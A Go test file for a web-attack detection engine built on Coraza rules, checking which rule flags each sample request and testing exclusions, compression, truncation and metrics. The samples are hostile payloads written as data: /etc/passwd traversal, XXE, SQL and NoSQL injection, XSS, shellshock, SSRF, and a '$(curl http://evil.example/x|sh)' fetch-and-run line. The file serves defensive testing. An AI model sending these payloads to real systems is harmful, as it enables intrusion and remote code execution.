package detect

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/types"
	"github.com/google/go-cmp/cmp"
	"github.com/periscope-mesh/periscope/mirror/event"
	"github.com/periscope-mesh/periscope/node/attack"
	"github.com/periscope-mesh/periscope/node/decode"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
)

const (
	form      = "application/x-www-form-urlencoded"
	jsonType  = "application/json"
	sqlError  = `{"error":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"}`
	multipart = "multipart/form-data; boundary=xx"
)

func part(head, content string) string {
	return "--xx\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + content + "\r\n--xx--\r\n"
}

// attackCase is an exchange and the first hit expected of it.
type attackCase struct {
	name  string
	event *event.Event
	typ   attack.Type
	place attack.Place
	in    string // location's name
	rule  int    // must be among the matches at the location
	text  string // what this rule's match highlights
}

func attackCases() []attackCase {
	const (
		lfi   = attack.PathTraversal
		rce   = attack.CommandInjection
		sqli  = attack.SQLInjection
		xss   = attack.XSS
		code  = attack.CodeInjection
		proto = attack.ProtocolViolation
	)
	return []attackCase{
		{"plain path", get("/etc/passwd"), lfi, attack.InPath, "", 930120, "etc/passwd"},
		{"plain path, encoded", get("/%65tc/passwd"), lfi, attack.InPath, "", 930120, "%65tc/passwd"},
		{"traversal in path", get("/static/../../../etc/passwd"), lfi, attack.InPath, "", 930110, "/../"},
		{"traversal in path, encoded", get("/static/..%2f..%2fetc%2fpasswd"), lfi, attack.InPath, "", 930100, "/..%2f"},
		{"file in query", get("/x?a=1&file=/etc/passwd"), lfi, attack.InQuery, "file", 930120, "etc/passwd"},
		{"file in query, encoded", get("/x?file=%2Fetc%2Fpasswd"), lfi, attack.InQuery, "file", 930120, "etc%2Fpasswd"},
		{"file in query, twice encoded", get("/x?file=%252e%252e%252fetc%252fpasswd"), lfi, attack.InQuery, "file", 930110, "%252e%252e%252f"},
		{"file in query name", get("/x?%2fetc%2fpasswd=1"), lfi, attack.InQuery, "/etc/passwd", 930120, "etc/passwd"},
		{"file in JSON", post(jsonType, `{"a":{"b":["x","/etc/passwd"]}}`), lfi, attack.InJSON, "$.a.b[1]", 930120, "etc/passwd"},
		{"file in JSON, escaped", post(jsonType, `{"a":"\/etc\/passwd"}`), lfi, attack.InJSON, "$.a", 930120, `etc\/passwd`},
		{"file in JSON, unicode", post(jsonType, `{"a":"\u002fetc\u002fpasswd"}`), lfi, attack.InJSON, "$.a", 930120, `etc\u002fpasswd`},
		{"file in JSON name", post(jsonType, `{"/etc/passwd":1}`), lfi, attack.InJSON, "$./etc/passwd", 930120, "etc/passwd"},
		{"file in vendor JSON", post("application/vnd.api+json", `{"a":"/etc/passwd"}`), lfi, attack.InJSON, "$.a", 930120, "etc/passwd"},
		{"file in JSON labelled text", post("text/plain", `{"a":"/etc/passwd"}`), lfi, attack.InJSON, "$.a", 930120, "etc/passwd"},
		{"file in form", post(form, "a=b&f=%2Fetc%2Fpasswd"), lfi, attack.InForm, "f", 930120, "etc%2Fpasswd"},
		{"file in multipart", post(multipart, part(`name="f"`, "/etc/passwd")), lfi, attack.InForm, "f", 930120, "etc/passwd"},
		{"file name in multipart", post(multipart, part(`name="f"; filename="../../x.sh"`, "x")), lfi, attack.InMultipart, "filename", 930110, "../"},
		{"file in XML", post("application/xml", `<a><b>/etc/passwd</b></a>`), lfi, attack.InXML, "/a/b", 930120, "etc/passwd"},
		{"file in XML attribute", post("text/xml", `<a><b href="/etc/passwd"/></a>`), lfi, attack.InXML, "/a/b/@href", 930120, "etc/passwd"},
		{"external entity", post("application/xml", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), lfi, attack.InXML, "!DOCTYPE", 9100020, "<!ENTITY x SYSTEM "},
		{"file in plain text", post("text/plain", "please read /etc/passwd now"), lfi, attack.InBody, "", 930120, "etc/passwd"},
		{"file in binary", post("application/grpc", "\x00\x00\x00\x00\x0d\x0a\x0b/etc/passwd\x10\x01"), lfi, attack.InBody, "(text)", 930120, "etc/passwd"},
		{"file in header", get("/x", "X-File: /etc/passwd"), lfi, attack.InHeader, "x-file", 930120, "etc/passwd"},
		{"file in cookie", get("/x", "Cookie: a=b; f=/etc/passwd"), lfi, attack.InCookie, "f", 930120, "etc/passwd"},
		{"second of two cookies", get("/x", "Cookie: f=1; f=/etc/passwd; g=2"), lfi, attack.InCookie, "f", 930120, "etc/passwd"},

		{"command in query", get("/x?c=%3B%20cat%20%2Fetc%2Fpasswd"), rce, attack.InQuery, "c", 9100010, "%3B%20cat%20%2Fe"},
		{"command in JSON", post(jsonType, `{"host":"8.8.8.8; cat /etc/passwd"}`), rce, attack.InJSON, "$.host", 9100010, "; cat /e"},
		{"substitution in JSON", post(jsonType, `{"h":"$(curl http://evil.example/x|sh)"}`), rce, attack.InJSON, "$.h", 932130, "$(curl http://evil.example/x|sh)"},
		{"command in form", post(form, "h=1%7Cwhoami"), rce, attack.InForm, "h", 932260, "%7Cwhoami"},
		{"command in header", get("/x", "X-Cmd: ;cat /etc/passwd"), rce, attack.InHeader, "x-cmd", 9100010, ";cat /e"},
		{"command in cookie", get("/x", "Cookie: h=$(cat /etc/passwd)"), rce, attack.InCookie, "h", 932130, "$(cat /etc/passwd)"},
		{"shellshock", get("/x", "X-Cmd: () { :; }; /bin/bash -c id"), rce, attack.InHeader, "x-cmd", 932170, "() {"},

		{"SQL in query", get("/x?id=1%27%20OR%20%271%27=%271"), sqli, attack.InQuery, "id", 942100, "1%27%20OR%20%271%27=%271"},
		{"union in query", get("/x?id=1+UNION+SELECT+name,pw+FROM+users--"), sqli, attack.InQuery, "id", 942270, "UNION+SELECT+name,pw+FROM"},
		{"union with comments", get("/x?id=1+UNION/*x*/SELECT+name,pw+FROM+users--"), sqli, attack.InQuery, "id", 942100, "1+UNION/*x*/SELECT+name,pw+FROM+users--"},
		{"SQL in JSON", post(jsonType, `{"id":"1' OR '1'='1' -- "}`), sqli, attack.InJSON, "$.id", 942100, "1' OR '1'='1' -- "},
		{"SQL in form", post(form, "id=1%27%20OR%20%271%27=%271"), sqli, attack.InForm, "id", 942100, "1%27%20OR%20%271%27=%271"},
		{"SQL in cookie", get("/x", "Cookie: id=1' OR '1'='1"), sqli, attack.InCookie, "id", 942100, "1' OR '1'='1"},
		{"SQL in header", get("/x", "X-Forwarded-For: 1' OR SLEEP(5)-- "), sqli, attack.InHeader, "x-forwarded-for", 942160, "SLEEP(5)"},
		{"SQL in path", get("/users/1'%20OR%20'1'='1/orders"), sqli, attack.InPath, "", 942100, "/users/1'%20OR%20'1'='1/orders"},
		{"SQL in GraphQL string", post(jsonType, `{"query":"{ user(name: \"1' OR '1'='1\") { id } }"}`), sqli, attack.InJSON, "$.query", 942100, `{ user(name: \"1' OR '1'='1\") { id } }`},
		{"NoSQL", post(form, "user[$ne]=1"), sqli, attack.InForm, "user[$ne]", 942290, "[$ne]"},

		{"script in query", get("/x?q=%3Cscript%3Ealert(1)%3C/script%3E"), xss, attack.InQuery, "q", 941110, "%3Cscript%3E"},
		{"event handler in JSON", post(jsonType, `{"q":"<img src=x onerror=alert(1)>"}`), xss, attack.InJSON, "$.q", 941160, "<img "},
		{"script in JSON, escaped", post(jsonType, `{"q":"\u003cscript\u003ealert(1)"}`), xss, attack.InJSON, "$.q", 941110, `\u003cscript\u003e`},
		{"script in form", post(form, "q=%3Csvg+onload=alert(1)%3E"), xss, attack.InForm, "q", 941120, "+onload=a"},
		{"script in cookie", get("/x", "Cookie: q=<script>alert(1)</script>"), xss, attack.InCookie, "q", 941110, "<script>"},
		{"script in header", get("/x", "X-Q: <script>alert(1)</script>"), xss, attack.InHeader, "x-q", 941110, "<script>"},
		{"script in path", get("/x/%3Cscript%3Ealert(1)%3C/script%3E"), xss, attack.InPath, "", 941110, "%3Cscript%3E"},

		{"PHP", get("/x?q=%3C?php%20system(%27id%27);?%3E"), code, attack.InQuery, "q", 933160, "system(%27id%27)"},
		{"Node.js", post(jsonType, `{"__proto__":{"admin":true},"x":"require('child_process').exec('id')"}`), code, attack.InJSON, "$.x", 934100, "('child_process')"},
		{"metadata service", get("/x?url=http://169.254.169.254/latest/meta-data/"), attack.SSRF, attack.InQuery, "url", 934110, "http://169.254.169.254/latest/"},
		{"remote file", get("/x?url=http://10.1.2.3/shell.txt"), attack.FileInclusion, attack.InQuery, "url", 931100, "http://10.1.2.3"},
		{"header injection", get("/x?q=a%0d%0aSet-Cookie:%20a=b"), proto, attack.InQuery, "q", 921160, "%0d%0aSet-Cookie:"},
		{"request smuggling", post(form, "q=x%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x"), proto, attack.InForm, "q", 921110, "GET%20/admin%20HTTP/1"},
		{"scanner", exchangeOf("GET /x\nUser-Agent: sqlmap/1.7#stable (https://sqlmap.org)", ""), attack.Scanner, attack.InHeader, "user-agent", 913100, "sqlmap"},
		{"SQL error in response", exchangeOf("GET /x\n"+browser, "500\ncontent-type: application/json\n\n"+sqlError), attack.DataLeakage, attack.InResponse, "", 951230, "You have an error in your SQL syntax;"},
	}
}

func TestAttacks(t *testing.T) {
	e := newEngine(t)
	for _, c := range attackCases() {
		t.Run(c.name, func(t *testing.T) {
			res := inspect(t, e, c.event)
			if len(res.Hits) != 1 {
				t.Fatalf("hits: %s", describe(res))
			}
			h := res.Hits[0]
			want := attack.Location{Place: c.place, Name: c.in}
			if h.Type != c.typ || h.Location != want || h.Score < 4 || h.Severity < attack.Error {
				t.Fatalf("want %s at %v, got %s", c.typ, want, describe(res))
			}
			for _, m := range h.Matches {
				if m.Start < 0 || m.Start > m.End || m.End > len(m.Value) || len(m.Value) > attack.MaxValueBytes {
					t.Errorf("rule %d: span [%d,%d) of %d bytes", m.RuleID, m.Start, m.End, len(m.Value))
				}
				if m.RuleID == c.rule && m.Location == want {
					if got := string(m.Value[m.Start:m.End]); got != c.text {
						t.Errorf("rule %d highlights %q, want %q", m.RuleID, got, c.text)
					}
					return
				}
			}
			t.Errorf("rule %d is not among %s", c.rule, describe(res))
		})
	}
}

func describe(res Result) string {
	var b strings.Builder
	for _, h := range res.Hits {
		fmt.Fprintf(&b, "%s score %d at %v:", h.Type, h.Score, h.Location)
		for _, m := range h.Matches {
			fmt.Fprintf(&b, " %d@%v[%s]", m.RuleID, m.Location, m.Value[m.Start:m.End])
		}
		b.WriteString("; ")
	}
	return b.String()
}

func TestHitDescribesItsExchange(t *testing.T) {
	e := newEngine(t)
	ev := exchangeOf("GET /x?f=/etc/passwd\nHost: shop.example\n"+browser, "404\ncontent-type: text/plain\n\nno")
	ev.SharePPM, ev.StartUS, ev.EndUS, ev.N = 250_000, 1_700_000_000_000_000, 1500, 42
	ev.Source, ev.Protocol, ev.TLS, ev.SNI, ev.Route = "[2001:db8::1]:5000", "HTTP/2", "TLSv1.3", "shop.example", "r"
	ev.ResponseFlags, ev.ResponseDetails = "NR", "route_not_found"
	h := inspect(t, e, ev).Hits[0]
	got := h
	got.Matches = nil
	want := attack.Hit{
		ID: "vm1-42-path-traversal", Time: time.Unix(1700000000, 0).UTC(), Type: attack.PathTraversal,
		Severity: attack.Critical, Score: 10, Tenant: "shop", Application: "front", Policy: "default/p", PolicyRev: "7",
		Gateway: "gw", Client: "2001:db8::1", Location: attack.Location{Place: attack.InQuery, Name: "f"}, Weight: 4,
		Exchange: attack.Exchange{
			Method: "GET", Scheme: "https", Host: "shop.example", Path: "/x?f=/etc/passwd", Protocol: "HTTP/2",
			TLS: "TLSv1.3", SNI: "shop.example", Route: "r", Status: 404, Duration: 1500 * time.Microsecond, Flags: "NR", Details: "route_not_found",
			Request: attack.Message{Headers: []attack.Field{
				{Name: "user-agent", Value: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
				{Name: "accept", Value: "*/*"}, {Name: "accept-encoding", Value: "gzip, br"},
			}, Body: []byte{}},
			Response: attack.Message{
				Headers: []attack.Field{{Name: "content-type", Value: "text/plain"}}, Body: []byte("no"), BodyBytes: 2,
			},
		},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
	if m := h.Matches[0]; m.RuleID != 930120 || m.Message != "OS File Access Attempt" || m.Type != attack.PathTraversal ||
		m.Severity != attack.Critical || len(m.Tags) == 0 {
		t.Errorf("first match %+v", m)
	}
	if b, err := json.Marshal(h); err != nil || !bytes.Contains(b, []byte(`"severity":"critical"`)) {
		t.Errorf("%s, %v", b, err)
	}
}

func TestSeveralTypesMakeSeveralHits(t *testing.T) {
	res := inspect(t, newEngine(t), get("/x?f=/etc/passwd&q=%3Cscript%3Ealert(1)&id=1%27%20OR%20%271%27=%271"))
	var got []attack.Type
	for _, h := range res.Hits {
		got = append(got, h.Type)
	}
	if d := cmp.Diff([]attack.Type{attack.PathTraversal, attack.SQLInjection, attack.XSS}, got); d != "" {
		t.Error(d)
	}
}

func TestMatchesAreBounded(t *testing.T) {
	var q strings.Builder
	for i := range 500 {
		fmt.Fprintf(&q, "&p%d=/etc/passwd%s", i, strings.Repeat("x", 20))
	}
	res := inspect(t, newEngine(t), get("/x?"+q.String()[1:]))
	if len(res.Hits) != 1 || len(res.Hits[0].Matches) != maxHitMatches {
		t.Fatalf("%d hits", len(res.Hits))
	}
}

func TestExclusions(t *testing.T) {
	e := newEngine(t)
	file := get("/x?f=/etc/passwd")
	for name, c := range map[string]struct {
		event *event.Event
		list  []Exclusion
		score int
		left  int // matches not excluded
	}{
		"none":               {file, nil, 10, 2},
		"one rule":           {file, []Exclusion{{RuleID: 930120}}, 5, 1},
		"one target":         {file, []Exclusion{{930120, "ARGS:f"}}, 5, 1},
		"case":               {file, []Exclusion{{930120, "args:F"}}, 5, 1},
		"part of ARGS":       {file, []Exclusion{{930120, "ARGS_GET:f"}}, 5, 1},
		"all targets":        {file, []Exclusion{{930120, "ARGS"}}, 5, 1},
		"another target":     {file, []Exclusion{{930120, "ARGS:g"}}, 10, 2},
		"another collection": {file, []Exclusion{{930120, "ARGS_POST:f"}, {930120, "REQUEST_HEADERS"}}, 10, 2},
		"another rule":       {file, []Exclusion{{942100, "ARGS:f"}}, 10, 2},
		"all rules":          {file, []Exclusion{{930120, "ARGS:f"}, {932160, ""}}, 0, 0},
		"header":             {get("/x", "X-F: /etc/passwd"), []Exclusion{{930120, "REQUEST_HEADERS:X-F"}}, 5, 1},
		"cookie":             {get("/x", "Cookie: f=/etc/passwd"), []Exclusion{{930120, "REQUEST_COOKIES:f"}}, 5, 1},
		"path":               {get("/etc/passwd"), []Exclusion{{930120, "REQUEST_FILENAME"}}, 0, 0},
		"JSON, CRS name":     {post(jsonType, `{"f":"/etc/passwd"}`), []Exclusion{{930120, "ARGS:json.f"}}, 5, 1},
		"JSON, path":         {post(jsonType, `{"f":"/etc/passwd"}`), []Exclusion{{930120, "ARGS:$.f"}}, 5, 1},
		"URI by parameter":   {get("/x?f=../../a/b"), []Exclusion{{930100, "ARGS:f"}, {930110, "ARGS:f"}}, 0, 0},
		"one of two places":  {get("/x?f=/etc/passwd&g=/etc/passwd"), []Exclusion{{930120, "ARGS:f"}, {932160, "ARGS:f"}}, 10, 2},
	} {
		t.Run(name, func(t *testing.T) {
			res := inspect(t, e, c.event, func(x *Input) { x.Policy.Exclusions = c.list })
			if c.score == 0 {
				if len(res.Hits) > 0 {
					t.Fatal(describe(res))
				}
				return
			}
			if len(res.Hits) != 1 || res.Hits[0].Score != c.score {
				t.Fatal(describe(res))
			}
			left := 0
			for _, m := range res.Hits[0].Matches {
				if !m.Excluded {
					left++
				}
			}
			if left != c.left {
				t.Errorf("%d matches are left: %s", left, describe(res))
			}
		})
	}
}

func TestParanoia(t *testing.T) {
	e := newEngine(t)
	ev := get("/x?q=1%3D1")
	for level, want := range map[int]int{-1: 0, 0: 0, 1: 0, 2: 1} {
		if res := inspect(t, e, ev, func(x *Input) { x.Policy.Paranoia = level }); len(res.Hits) != want {
			t.Errorf("level %d: %s", level, describe(res))
		}
	}
	// Anything beyond 4 is 4.
	if _, err := e.rules(1 << 20); err != nil || e.levels[maxParanoia-1].waf == nil {
		t.Errorf("a level beyond 4 is not 4: %v", err)
	}
}

func compress(t *testing.T, encoding, s string) string {
	t.Helper()
	var b bytes.Buffer
	switch encoding {
	case "gzip":
		w := gzip.NewWriter(&b)
		_, _ = w.Write([]byte(s))
		_ = w.Close()
	case "deflate":
		w := zlib.NewWriter(&b)
		_, _ = w.Write([]byte(s))
		_ = w.Close()
	}
	return b.String()
}

func TestCompressedBodies(t *testing.T) {
	e := newEngine(t)
	for _, encoding := range []string{"gzip", "deflate"} {
		res := inspect(t, e, post(jsonType, compress(t, encoding, `{"f":"/etc/passwd"}`), "Content-Encoding: "+encoding))
		if len(res.Hits) != 1 || res.Hits[0].Location.Place != attack.InJSON {
			t.Errorf("%s: %s", encoding, describe(res))
		}
		ev := exchangeOf("GET /x\n"+browser, "500\ncontent-type: application/json\ncontent-encoding: "+encoding+"\n\n")
		ev.Response.Body = []byte(compress(t, encoding, sqlError))
		if res := inspect(t, e, ev); len(res.Hits) != 1 || res.Hits[0].Type != attack.DataLeakage {
			t.Errorf("response, %s: %s", encoding, describe(res))
		}
	}
	res := inspect(t, e, post(jsonType, "\x1b\x00", "Content-Encoding: br"))
	if res.RequestFacts&decode.UnknownEncoding == 0 {
		t.Errorf("facts %b", res.RequestFacts)
	}
}

// Bodies that the gateway cut are inspected as far as they go, and being cut
// is no attack.
func TestCutBodies(t *testing.T) {
	e := newEngine(t)
	filler := strings.Repeat("lorem ipsum ", 50)
	for name, c := range map[string]struct{ typ, benign, hostile string }{
		"JSON":      {jsonType, `{"a":["` + filler + `","` + filler, `{"f":"/etc/passwd","a":["` + filler},
		"JSON name": {jsonType, `{"a":1,"b`, `{"f":"/etc/passwd","b`},
		"in value":  {jsonType, `{"a":"b`, `{"f":"/etc/passwd`},
		"form":      {form, "a=b&c=" + filler + "%2", "f=/etc/passwd&c=%2"},
		"multipart": {multipart, part(`name="a"`, filler)[:200], part(`name="f"`, "/etc/passwd") + "--xx\r\nContent-Dis"},
		"XML":       {"text/xml", "<a><b>" + filler + "</", "<a><b>/etc/passwd</b><c"},
		"text":      {"text/plain", filler, "/etc/passwd " + filler},
	} {
		t.Run(name, func(t *testing.T) {
			for _, body := range []string{c.benign, c.hostile} {
				ev := post(c.typ, body)
				ev.Flags |= event.FlagRequestCut
				ev.Request.BodyBytes += 1000
				res := inspect(t, e, ev)
				if len(res.Hits) > 0 != (body == c.hostile) {
					t.Errorf("%.60q: %s", body, describe(res))
				}
				if res.RequestFacts&decode.Malformed != 0 {
					t.Error("our cutting is called malformed")
				}
				if len(res.Hits) > 0 && !res.Hits[0].Exchange.Truncated {
					t.Error("the sample does not say that it is cut")
				}
			}
		})
	}
	z := compress(t, "gzip", `{"f":"/etc/passwd","a":"`+filler+filler+`"}`)
	ev := post(jsonType, z[:len(z)-12], "Content-Encoding: gzip")
	ev.Flags |= event.FlagRequestCut
	if res := inspect(t, e, ev); len(res.Hits) != 1 {
		t.Errorf("cut gzip: %s", describe(res))
	}
}

func TestSurvivesNonsense(t *testing.T) {
	e := newEngine(t)
	manyHeaders := get("/x")
	for i := range 10_000 {
		manyHeaders.Request.Headers = append(manyHeaders.Request.Headers,
			event.Field{Name: fmt.Appendf(nil, "x-%d", i), Value: []byte("a b")})
	}
	binary := post("application/octet-stream", string(bytes.Repeat([]byte{0, 0xff, 0xfe, 'a', 0x80}, 2000)))
	binary.Request.Headers[1].Value = []byte("/\xff\x00\xfe?\x80=\x00\xff")
	binary.Request.Headers = append(binary.Request.Headers, event.Field{Name: []byte("\xff\x00"), Value: []byte("\x00\xff' or 1=1--")})
	for name, ev := range map[string]*event.Event{
		"empty":        {},
		"headers":      manyHeaders,
		"binary":       binary,
		"deep JSON":    post(jsonType, strings.Repeat(`{"a":[`, 2000)),
		"closed JSON":  post(jsonType, strings.Repeat(`]}`, 1000)),
		"many leaves":  post(jsonType, "["+strings.Repeat(`"a'b",`, 3000)+"1]"),
		"deep XML":     post("text/xml", strings.Repeat("<a>", 3000)),
		"no boundary":  post("multipart/form-data", "x"),
		"many parts":   post(multipart, strings.Repeat("--xx\r\n\r\n", 500)),
		"gzip bomb":    post("text/plain", compress(t, "gzip", strings.Repeat(" ", 4<<20)), "Content-Encoding: gzip"),
		"bad gzip":     post("text/plain", "nope", "Content-Encoding: gzip"),
		"odd pseudo":   {Request: event.Message{Headers: []event.Field{{Name: []byte(":path")}, {Name: []byte(":")}, {}}}},
		"odd response": exchangeOf("GET /", "x\n:status: y\ncontent-type: text/html\n\n<"),
	} {
		t.Run(name, func(t *testing.T) {
			for _, h := range inspect(t, e, ev).Hits {
				if _, err := json.Marshal(h); err != nil {
					t.Error(err)
				}
			}
		})
	}
}

// A value behind a thousand others is still inspected.
func TestPaddingHidesNothing(t *testing.T) {
	e := newEngine(t)
	var q, j strings.Builder
	j.WriteString("[")
	for i := range 1200 {
		fmt.Fprintf(&q, "p%d=v%d&", i, i)
		fmt.Fprintf(&j, `"v%d",`, i)
	}
	for name, ev := range map[string]*event.Event{
		"query": get("/x?" + q.String() + "f=/etc/passwd"),
		"JSON":  post(jsonType, j.String()+`"/etc/passwd"]`),
	} {
		if res := inspect(t, e, ev); len(res.Hits) != 1 || res.RequestFacts&decode.Folded == 0 {
			t.Errorf("%s: %s", name, describe(res))
		}
	}
}

func TestParallelInspectionsKeepTheirExclusions(t *testing.T) {
	e := newEngine(t)
	var wg sync.WaitGroup
	for worker := range 8 {
		wg.Go(func() {
			list := []Exclusion{{930120, "ARGS:f"}, {932160, fmt.Sprintf("ARGS:%c", 'f'+worker%2)}}
			for range 15 {
				res := inspect(t, e, get("/x?f=/etc/passwd"), func(x *Input) { x.Policy.Exclusions = list })
				if want := worker % 2; len(res.Hits) != want {
					t.Errorf("worker %d: %s", worker, describe(res))
				}
			}
		})
	}
	wg.Wait()
}

// panicking is a rule set that panics.
type panicking struct{ coraza.WAF }

func (panicking) NewTransaction() types.Transaction { panic("boom") }

func TestErrorsAndMetrics(t *testing.T) {
	reg := prometheus.NewRegistry()
	e, err := New(Config{Logger: slog.New(slog.DiscardHandler), Registerer: reg})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := New(Config{Logger: slog.New(slog.DiscardHandler), Registerer: reg}); err == nil {
		t.Error("metrics were registered twice")
	}
	if _, err := New(Config{}); err == nil {
		t.Error("an empty config was accepted")
	}
	inspect(t, e, get("/"))
	inspect(t, e, get("/etc/passwd"))
	cut := post(jsonType, `{"a":`)
	cut.Flags |= event.FlagRequestCut
	inspect(t, e, cut)
	if _, err := e.Inspect(&Input{}); err == nil {
		t.Error("an input without an event was accepted")
	}
	sound := e.levels[0].waf
	e.levels[0].waf = panicking{}
	if _, err := e.Inspect(&Input{Event: get("/")}); !errors.Is(err, errPanic) {
		t.Errorf("panic became %v", err)
	}
	e.levels[0].waf = sound
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := e.Inspect(&Input{Event: get("/")}); !errors.Is(err, ErrClosed) {
		t.Errorf("after Close: %v", err)
	}
	want := `
# HELP periscope_detect_errors_total Exchanges not inspected in full, by reason: panic, closed, input or rules.
# TYPE periscope_detect_errors_total counter
periscope_detect_errors_total{reason="closed"} 1
periscope_detect_errors_total{reason="input"} 1
periscope_detect_errors_total{reason="panic"} 1
# HELP periscope_detect_incomplete_total Messages of which a part was not inspected as what it is, by direction and reason.
# TYPE periscope_detect_incomplete_total counter
periscope_detect_incomplete_total{direction="request",reason="cut"} 1
# HELP periscope_detect_inspections_total Exchanges inspected, by outcome: clean, hit or error.
# TYPE periscope_detect_inspections_total counter
periscope_detect_inspections_total{outcome="clean"} 2
periscope_detect_inspections_total{outcome="error"} 3
periscope_detect_inspections_total{outcome="hit"} 1
`
	if err := testutil.GatherAndCompare(reg, strings.NewReader(want), "periscope_detect_errors_total",
		"periscope_detect_incomplete_total", "periscope_detect_inspections_total"); err != nil {
		t.Error(err)
	}
}
